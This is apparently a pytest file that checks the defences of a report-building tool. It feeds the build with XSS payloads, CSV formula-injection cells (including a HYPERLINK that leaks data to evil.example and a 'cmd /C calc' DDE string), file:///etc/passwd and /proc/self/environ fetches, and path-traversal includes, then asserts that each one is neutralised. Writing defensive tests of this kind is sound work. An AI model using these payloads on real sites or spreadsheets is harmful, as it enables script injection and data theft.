"""Issue 12's attacker, all at once, and each line of defence on its own.

The book is built with every partner text and data field that passes `check` while looking like
markup (they must arrive as text); then every page is searched for what an attacker wants: a
script other than the site's own files, an event attribute, a javascript: or file: address.
The defences behind the checker — the page audit, the partner-region sanitiser, the PDF's URL
fetcher, the build lock, the cell timeout — are each shown to work on input that gets past it.
"""
from __future__ import annotations

import re
import shutil
from html import unescape
import threading
import time
from pathlib import Path

import pytest

from luton2040.cli import main
from luton2040.errors import BuildError
from safety_helpers import make_book

# Partner texts that are valid but full of markup-looking text: all published, all inert.
ACCEPTED = {
    "comment-splits-a-tag": "Hello <scr<!-- x -->ipt>alert(1)</scr<!-- x -->ipt> and more.",
    "entities": "We wrote &lt;script&gt;alert(1)&lt;/script&gt; and &#60;img src=x onerror=alert(1)&#62;.",
    "escaped-html": "We wrote \\<svg/onload=alert(1)\\> and \\[x\\](javascript:alert(1)).",
    "link-title": '[our report](https://example.org/r "x\\" onmouseover=\\"alert(1)") and <https://example.org/a>.',
    "code": "Code: `<script>alert(1)</script>` and\n\n```\n<img src=x onerror=alert(1)>\n```",
    "escaped-braces": "Escaped: \\{python\\} and \\{#id onclick=x\\}.",
    "many-comments": "Start " + "<!-- c -->" * 2000 + " end.",
}
PARTNER = """---
organisation: "Org {name} <script>alert(1)</script>"
priority: poverty
edition: 2025
---

{body}
"""
# Data fields that used to be published as raw HTML.
DATA = [
    ("data/highlights.csv", "of households were destitute in 2023", "<script>alert('highlight')</script>"),
    ("data/priorities.csv", "No one in Luton lives in poverty.", "<img src=x onerror=alert('priority')>"),
    ("data/areas.csv", "england,England,", "england,<b onmouseover=alert('area')>England</b>,"),
    ("data/observations.csv", "not_available,true,\"Not published",
     "not_available,true,\"=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A3,\"\"Source\"\") Not published"),
]
SCRIPT = re.compile(r"<script\b([^>]*)>(.*?)</script>", re.DOTALL | re.IGNORECASE)
HANDLER = re.compile(r"<[a-z][^>]*\son[a-z]+\s*=", re.IGNORECASE)
BAD_URL = re.compile(r"""(href|src)\s*=\s*["']?\s*(javascript|file|vbscript):""", re.IGNORECASE)


@pytest.fixture(scope="module")
def attacked_site(tmp_path_factory) -> Path:
    book = make_book(tmp_path_factory.mktemp("attacked") / "book")
    for name, body in ACCEPTED.items():
        (book / f"partners/poverty/{name}.md").write_text(PARTNER.format(name=name, body=body), encoding="utf-8")
    for file, old, new in DATA:
        path = book / file
        text = path.read_text(encoding="utf-8")
        assert old in text, (file, old)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.delenv("LUTON2040_VALIDATED", raising=False)
        assert main(["--project", str(book), "check"]) == 0
        assert main(["--project", str(book), "build", "--quiet"]) == 0
    return book / "_site"


def test_the_attacks_reach_the_site_as_text(attacked_site):
    page = (attacked_site / "chapters/poverty.html").read_text(encoding="utf-8")
    assert "Hello &lt;scr" in page and "ipt&gt;alert(1)&lt;/scr" in page  # the comment gone, the rest text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "Start  end." in page or "Start end." in page
    assert "Org comment-splits-a-tag &lt;script&gt;" in page


def test_no_page_carries_script_handlers_or_local_addresses(attacked_site):
    own = {p.relative_to(attacked_site).as_posix() for p in attacked_site.rglob("*.js")}
    pages = sorted(attacked_site.rglob("*.html"))
    assert len(pages) >= 3
    for path in pages:
        html = path.read_text(encoding="utf-8")
        for attributes, code in SCRIPT.findall(html):
            assert not code.strip(), f"{path.name}: inline script {code[:60]!r}"
            src = re.search(r'src="([^"]+)"', attributes).group(1)
            target = (path.parent / src).resolve().relative_to(attacked_site.resolve()).as_posix()
            assert target in own, f"{path.name}: script from {src}"
        assert not HANDLER.search(html), f"{path.name}: {HANDLER.search(html).group()}"
        assert not BAD_URL.search(html), f"{path.name}: {BAD_URL.search(html).group()}"
        csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
        assert csp and "script-src 'self' file: 'wasm-unsafe-eval';" in unescape(csp.group(1)), path.name


def test_formula_like_cells_are_neutralised_in_every_published_csv(tmp_path):
    import io
    import zipfile
    from luton2040.site import downloads
    from luton2040.data.load import load
    book = make_book(tmp_path / "book")
    path = book / "data/observations.csv"
    path.write_text(path.read_text(encoding="utf-8").replace(
        ",ok,true,,\n", ',ok,true,"=HYPERLINK(""https://evil.example/?leak=""&A3,""Source"")",\n', 1)
        .replace(",ok,false,,\n", ",ok,false,@SUM(1+1)*cmd|' /C calc'!A0,\n", 1), encoding="utf-8")
    targets = book / "data/targets.csv"  # a target's wording is a cell of its chart's download
    targets.write_text(targets.read_text(encoding="utf-8").replace(
        "0,No household in destitution,", "0,=2+2 0%,"), encoding="utf-8")
    data = load(book)
    edition = max(data.editions.values(), key=lambda e: e.year)
    measure_csv = downloads.measure_csv(data, edition, data.measure("destitution"))
    assert measure_csv.splitlines()[-1].endswith(",'=2+2 0%")
    archive = zipfile.ZipFile(io.BytesIO(downloads.zip_bytes(book, edition)))
    published = [measure_csv, downloads.edition_files(book, edition)["observations.csv"].decode("utf-8"),
                 archive.read("luton-2040-data/observations.csv").decode("utf-8")]
    for text in published:
        assert "\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A3,\"\"Source\"\")\"" in text
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in text
        assert not re.search(r'(^|,)"?[=@+]', text, re.MULTILINE), text
        assert ",-" not in text or re.search(r",-[0-9]", text)


def test_numbers_with_signs_stay_numbers_in_downloads():
    from luton2040.site.downloads import spreadsheet_safe
    assert spreadsheet_safe("a,b\n-3.2,+1\n") == "a,b\n-3.2,+1\n"
    assert spreadsheet_safe("a,b\n-x,\"\tq\"\n") == "a,b\n'-x,'\tq\n"


# -- the page audit and the partner-region sanitiser (behind the checker) ---------------------------

@pytest.mark.parametrize("html, expected", [
    ("<p>x</p>\n<script>alert(1)</script>", ["line 2: a <script> with inline code"]),
    ('<script src="https://evil.example/x.js"></script>',
     ["line 1: a <script> from https://evil.example/x.js, which is not a file of the site"]),
    ('<img src="a.png" onerror="alert(1)">', ["line 1: an event attribute onerror= on <img>"]),
    ('<a href=" JavaScript:alert(1)">x</a>', ["line 1: a javascript: address in <a href>"]),
    ('<a href="file:///etc/passwd">x</a>', ["line 1: a file: address in <a href>"]),
    ('<iframe src="https://example.org"></iframe>', ["line 1: an <iframe> element"]),
    ('<script src="site_libs/own.js"></script><a href="https://example.org">ok</a>', []),
])
def test_the_page_audit_names_what_could_run(html, expected):
    from luton2040.engine.page_safety import audit
    assert audit(html, "index.html", {"site_libs/own.js"}) == expected


def test_an_unsafe_page_stops_the_build_before_anything_is_published(tmp_path):
    from luton2040.engine.page_safety import secure_pages
    (tmp_path / "chapters").mkdir()
    (tmp_path / "chapters/a.html").write_text('<p onclick="x()">hi</p>', encoding="utf-8")
    with pytest.raises(BuildError) as caught:
        secure_pages(tmp_path, ["chapters/a.html"], ["chapters/a.html"])
    assert str(caught.value) == ("pages would carry script or local addresses, so nothing was published:\n"
                                 "chapters/a.html: line 1: an event attribute onclick= on <p>\n"
                                 "— remove what each line names from its source")


def test_the_sanitiser_strips_what_gets_into_a_partner_region_and_leaves_the_rest():
    from luton2040.engine.page_safety import sanitise_partner_regions
    page = ('<p>own <b>page</b></p><section id="a" class="level3 partner-contribution"><h3>Org</h3>'
            '<section class="level4"><h4>Sub</h4><p>ok<script>bad()</script>'
            '<a href="javascript:x" onclick="y">j</a><a href="https://example.org" class="uri">k</a></p>'
            '</section></section><p>after</p>')
    assert sanitise_partner_regions(page) == (
        '<p>own <b>page</b></p><section id="a" class="level3 partner-contribution"><h3>Org</h3>'
        '<section class="level4"><h4>Sub</h4><p>ok<a>j</a><a href="https://example.org" class="uri">k</a></p>'
        '</section></section><p>after</p>')



def test_a_partner_tables_column_alignment_survives_the_sanitiser_and_no_other_style_does():
    from luton2040.engine.page_safety import sanitise_partner_regions
    page = ('<div class="partner-contribution"><table><thead><tr><th style="text-align: left;">Site</th>'
            '<th style="text-align: right;">kW</th></tr></thead><tbody><tr><td style="text-align: left;">Hall</td>'
            '<td style="text-align: right;">19.2</td><td style="background: url(https://evil.example/x)">x</td>'
            '<td style="text-align: right; color: red">y</td></tr></tbody></table></div>')
    assert sanitise_partner_regions(page) == (
        '<div class="partner-contribution"><table><thead><tr><th style="text-align: left;">Site</th>'
        '<th style="text-align: right;">kW</th></tr></thead><tbody><tr><td style="text-align: left;">Hall</td>'
        '<td style="text-align: right;">19.2</td><td>x</td><td>y</td></tr></tbody></table></div>')


def test_a_partners_phone_link_survives_the_sanitiser():
    from luton2040.engine.page_safety import sanitise_partner_regions
    page = ('<section class="level3 partner-contribution"><p>Call <a href="tel:+44%201582%20000000">01582 000000</a>'
            ' or <a href="vbscript:x">v</a>.</p></section>')
    assert sanitise_partner_regions(page) == (
        '<section class="level3 partner-contribution"><p>Call <a href="tel:+44%201582%20000000">01582 000000</a>'
        ' or <a>v</a>.</p></section>')


# -- the PDF fetcher -----------------------------------------------------------------------------

def test_the_pdf_reads_only_the_site_and_carries_no_attachments(tmp_path):
    from pypdf import PdfReader
    from luton2040.pdf.render import render_pdf
    site = tmp_path / "site"
    site.mkdir()
    (site / "inside.txt").write_text("inside", encoding="utf-8")
    html = ('<html lang="en"><head><link rel="attachment" href="file:///etc/hostname"></head><body>'
            '<p><a rel="attachment" href="file:///etc/passwd">passwd</a> '
            f'<a rel="attachment" href="file://{site}/inside.txt">inside</a></p>'
            '<img src="file:///proc/self/environ" alt=""><img src="https://example.org/x.png" alt=""></body></html>')
    messages = render_pdf(html, site / "out.pdf", "file:///luton2040-print/", allowed=[site])
    assert messages == [
        "error: Failed to load image at 'file:///proc/self/environ': ValueError: refused to fetch "
        "file:///proc/self/environ: the PDF may only use files of the site being printed",
        "error: Failed to load image at 'https://example.org/x.png': ValueError: refused to fetch "
        "https://example.org/x.png: the PDF may only use files of the site being printed",
        "error: refused to attach a <link rel=attachment> to the PDF: the PDF carries no attached files",
        "error: refused to attach file:///etc/passwd to the PDF: the PDF carries no attached files",
        f"error: refused to attach file://{site}/inside.txt to the PDF: the PDF carries no attached files",
    ]
    reader = PdfReader(site / "out.pdf")
    assert dict(reader.attachments) == {}
    assert b"/EmbeddedFile" not in (site / "out.pdf").read_bytes()


# -- one build at a time -------------------------------------------------------------------------

def test_a_second_build_waits_for_the_first_and_says_so(tmp_path):
    from luton2040.engine.lock import project_lock
    said, order = [], []

    def second():
        with project_lock(tmp_path, say=said.append):
            order.append("second")

    with project_lock(tmp_path):
        thread = threading.Thread(target=second)
        thread.start()
        time.sleep(0.6)
        order.append("first done")
    thread.join(5)
    assert order == ["first done", "second"]
    assert said == [f"Another build of this project is running (process {__import__('os').getpid()}); "
                    "waiting for it to finish…"]


def test_a_build_that_cannot_get_the_lock_in_time_says_what_to_do(tmp_path):
    from luton2040.engine.lock import project_lock
    with project_lock(tmp_path):
        with pytest.raises(BuildError) as caught:
            with project_lock(tmp_path, wait_seconds=0.3, say=lambda m: None):
                pass
    assert str(caught.value) == (".luton2040-cache/build.lock: another build of this project has been running "
                                 "for more than 0 minutes — wait for it or stop it, then build again")


# -- a hung cell ---------------------------------------------------------------------------------

def test_a_hung_cell_stops_the_build_naming_the_file_and_cell(tmp_path, capsys, monkeypatch):
    book = make_book(tmp_path / "book")
    chapter = book / "chapters/net-zero.qmd"
    chapter.write_text(chapter.read_text(encoding="utf-8") + "\n```{python}\nimport time\ntime.sleep(30)\n```\n",
                       encoding="utf-8")
    line = chapter.read_text(encoding="utf-8").splitlines().index("import time")
    monkeypatch.setenv("LUTON2040_CELL_TIMEOUT", "2")
    monkeypatch.delenv("LUTON2040_VALIDATED", raising=False)
    started = time.monotonic()
    assert main(["--project", str(book), "build", "--quiet"]) == 1
    assert time.monotonic() - started < 25
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert re.fullmatch(rf"chapters/net-zero\.qmd:{line}: cell \d+: this cell ran for more than 2 s, so it was "
                        r"stopped — fix the cell so it finishes quickly, then build again\n", err), err
    assert not (book / "_site").exists()


# -- nothing outside its place -------------------------------------------------------------------

@pytest.mark.parametrize("case, text, expected", [
    ("include-climbing-out-of-the-project", "{{< include ../../../../../../../../etc/hostname >}}",
     "chapters/net-zero.qmd:{line}: cannot include '../../../../../../../../etc/hostname': it is outside the "
     "project — copy the file into the project and include it from there"),
    ("include-with-a-leading-slash-is-the-project-root", "{{< include /etc/hostname >}}",
     "chapters/net-zero.qmd:{line}: cannot include '/etc/hostname': file not found — fix the path (it is "
     "relative to the page, even in an included file; start it with / to give it from the project's folder)"),
    ("link-climbing-out-of-the-project", "[notes](../../somewhere/file.txt)",
     "chapters/net-zero.qmd:{line}: links to '../../somewhere/file.txt', which is outside the project — copy the "
     "file into the project and link to it there (a path is relative to the page, chapters/net-zero.qmd, even in an "
     "included file)"),
])
def test_a_chapter_cannot_reach_outside_the_project(tmp_path, capsys, monkeypatch, case, text, expected):
    book = make_book(tmp_path / "book")
    outside = tmp_path / "somewhere"
    outside.mkdir()
    (outside / "file.txt").write_text("secret", encoding="utf-8")
    chapter = book / "chapters/net-zero.qmd"
    chapter.write_text(chapter.read_text(encoding="utf-8") + "\n" + text + "\n", encoding="utf-8")
    line = len(chapter.read_text(encoding="utf-8").splitlines())
    monkeypatch.delenv("LUTON2040_VALIDATED", raising=False)
    assert main(["--project", str(book), "build", "--quiet"]) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert err.splitlines()[0] == expected.format(line=line)
    assert not list(tmp_path.rglob("file.txt"))[1:], "the outside file was copied"


def test_a_picture_linked_out_of_the_project_is_not_copied_even_past_the_check(tmp_path, capsys, monkeypatch):
    """The check refuses a link out of the project (data/linked_files.py); behind it, the engine's copy of the
    files a page shows refuses one too (it published /etc/passwd as figures/logo.png)."""
    from luton2040.data import validate
    from luton2040.data.linked_files import links_out_of_the_project

    monkeypatch.setattr(validate, "RULES", [rule for rule in validate.RULES if rule is not links_out_of_the_project])
    book = make_book(tmp_path / "book")
    outside = tmp_path / "secret.png"
    outside.write_bytes((book / "figures/partners/tree.png").read_bytes())
    (book / "figures/logo.png").symlink_to(outside)
    chapter = book / "chapters/net-zero.qmd"
    chapter.write_text(chapter.read_text(encoding="utf-8") + "\n![Our logo](../figures/logo.png)\n", encoding="utf-8")
    line = len(chapter.read_text(encoding="utf-8").splitlines())
    assert main(["--project", str(book), "build", "--quiet"]) == 1
    assert capsys.readouterr().err.splitlines()[0] == (
        f"chapters/net-zero.qmd:{line}: links to '../figures/logo.png', which is a link to a file outside the project "
        "— copy the file itself into the project in place of the link")
    assert not (book / "_site").exists()


def test_a_kernel_stopped_for_a_hung_cell_is_not_lent_to_the_next_document(tmp_path, monkeypatch):
    """The cell is stopped for good: a warm kernel still running it would make the next document's
    code wait for it, and fail there with no file or line (the flaky failure of the test above)."""
    from luton2040.engine.kernel import KernelStopped
    from luton2040.engine.warm import WarmKernel

    monkeypatch.setenv("LUTON2040_CELL_TIMEOUT", "1")
    with WarmKernel() as warm:
        kernel = warm.get(tmp_path, [], {})
        with pytest.raises(KernelStopped):
            kernel.execute("import time\ntime.sleep(30)")
        assert not kernel.km.is_alive()
        fresh = warm.get(tmp_path, [], {})
        assert fresh is not kernel and fresh.execute("x = 1 + 1", {"x": "x"}).expressions["x"]["status"] == "ok"
